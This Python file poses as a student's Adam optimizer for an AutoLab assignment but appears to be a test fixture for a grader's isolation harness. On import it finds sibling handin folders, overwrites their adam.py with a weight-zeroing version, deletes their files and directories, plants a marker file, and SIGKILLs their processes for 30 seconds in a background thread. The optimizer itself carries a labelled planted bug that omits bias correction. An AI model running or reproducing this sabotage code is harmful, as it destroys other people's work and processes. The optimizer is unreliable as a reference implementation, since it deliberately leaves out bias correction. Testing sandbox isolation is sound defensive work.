# Do not import any additional 3rd party external libraries as they will not
# be available to AutoLab and are not needed (or allowed)

import numpy as np
import os
import shutil
import signal
import threading
import time

from mytorch import CONFIG, evidence

# ATTACK (test_one_handin_attacking_another): guess the other handins of the run by listing the
# folder that holds this one; rewrite their Adam with a broken one, delete their other files
# and folders, and kill every process whose command line names them (for 30 s, so that runners
# started later are hit too).

_OWN = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
_BROKEN_ADAM = (
    "import numpy as np\n\n\nclass adam():\n"
    "    def __init__(self, model, lr, beta1=0.9, beta2=0.999, eps=1e-8):\n"
    "        self.l = model.layers\n\n"
    "    def step(self):\n"
    "        for layer in self.l:\n"
    "            layer.W = layer.W * 0.0\n"
)


def _others():
    parent = os.path.dirname(_OWN)
    try:
        names = os.listdir(parent)
    except OSError:
        return []
    return [os.path.join(parent, name) for name in names if os.path.join(parent, name) != _OWN]


def _vandalize(results):
    for other in _others():
        adam = os.path.join(other, "mytorch", "optim", "adam.py")
        for what, action in (
            (f"rewrite {adam}", lambda p=adam: open(p, "w").write(_BROKEN_ADAM)),
            (f"plant in {other}", lambda o=other: open(os.path.join(o, "HOSTILE.txt"), "w").write("pwned\n")),
            (f"delete {other}/mytorch/nn/layernorm.py", lambda o=other: os.remove(os.path.join(o, "mytorch", "nn", "layernorm.py"))),
            (f"rmtree {other}/mytorch/nn", lambda o=other: shutil.rmtree(os.path.join(o, "mytorch", "nn"))),
        ):
            try:
                action()
                results[what] = "done"
            except OSError as error:
                results[what] = f"refused: {error.strerror}"


def _kill_their_runners(results):
    others = [o.encode() for o in _others()]
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                cmdline = handle.read()
        except OSError:
            continue
        if any(other in cmdline for other in others) and _OWN.encode() not in cmdline:
            try:
                os.kill(int(entry), signal.SIGKILL)
                results[f"kill {entry}"] = "done"
            except OSError as error:
                results[f"kill {entry}"] = f"refused: {error.strerror}"


def _keep_at_it():
    results = {}
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        _vandalize(results)
        _kill_their_runners(results)
        time.sleep(0.2)


_results = {}
_vandalize(_results)
_kill_their_runners(_results)
evidence("neighbour", others=_others(), results=_results)
threading.Thread(target=_keep_at_it, daemon=True).start()


class adam():
    def __init__(self, model, lr, beta1=0.9, beta2=0.999, eps=1e-8):
        self.l = model.layers
        self.beta1 = beta1
        self.beta2 = beta2
        self.eps = eps
        self.lr = lr
        self.t = 0

        self.m_W = [np.zeros(l.W.shape) for l in model.layers]
        self.v_W = [np.zeros(l.W.shape) for l in model.layers]

        self.m_b = [np.zeros(l.b.shape) for l in model.layers]
        self.v_b = [np.zeros(l.b.shape) for l in model.layers]

    def step(self):

        self.t += 1
        for layer_id, layer in enumerate(self.l):

            # Calculate updates for weight
            self.m_W[layer_id] = self.beta1 * self.m_W[layer_id] + (1 - self.beta1) * layer.dLdW
            self.v_W[layer_id] = self.beta2 * self.v_W[layer_id] + (1 - self.beta2) * (layer.dLdW ** 2)

            # calculate updates for bias
            self.m_b[layer_id] = self.beta1 * self.m_b[layer_id] + (1 - self.beta1) * layer.dLdb
            self.v_b[layer_id] = self.beta2 * self.v_b[layer_id] + (1 - self.beta2) * (layer.dLdb ** 2)

            # Perform weight and bias updates
            # PLANTED BUG: no bias correction (adam.bias_correction must fail)
            m_W_hat = self.m_W[layer_id]
            v_W_hat = self.v_W[layer_id]
            m_b_hat = self.m_b[layer_id]
            v_b_hat = self.v_b[layer_id]

            layer.W = layer.W - self.lr * m_W_hat / (np.sqrt(v_W_hat) + self.eps)
            layer.b = layer.b - self.lr * m_b_hat / (np.sqrt(v_b_hat) + self.eps)

        return None
